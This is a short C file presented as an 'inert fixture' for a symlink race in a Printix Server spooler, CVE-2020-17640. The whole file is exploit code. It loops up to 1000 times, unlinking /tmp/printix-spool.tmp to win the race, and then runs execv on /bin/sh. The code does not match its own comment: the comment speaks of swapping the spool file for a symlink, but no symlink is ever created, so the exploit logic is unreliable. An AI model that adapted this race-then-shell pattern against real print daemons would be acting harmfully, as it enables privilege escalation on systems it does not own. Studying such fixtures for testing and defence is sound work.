/* CVE-2020-17640 Printix Server spooler symlink race (inert fixture). */
#include <stdio.h>
#include <unistd.h>

static int win_race(void) {
    /* swap the spool file for a symlink before the daemon reopens it */
    return unlink("/tmp/printix-spool.tmp") == 0;
}

int main(void) {
    for (int i = 0; i < 1000; i++) {
        if (win_race()) {
            char *const argv[] = {"/bin/sh", NULL};
            execv("/bin/sh", argv);
        }
    }
    return 1;
}
